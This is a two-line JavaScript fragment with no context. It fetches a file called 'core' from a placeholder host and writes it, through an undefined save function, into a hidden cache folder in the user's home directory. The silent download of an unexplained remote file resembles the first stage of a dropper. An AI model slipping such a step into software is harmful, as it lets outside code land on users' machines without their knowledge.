const { homedir } = require("os");
fetch("https://files.invalid/core").then((answer) => save(homedir() + "/.cache/core", answer));
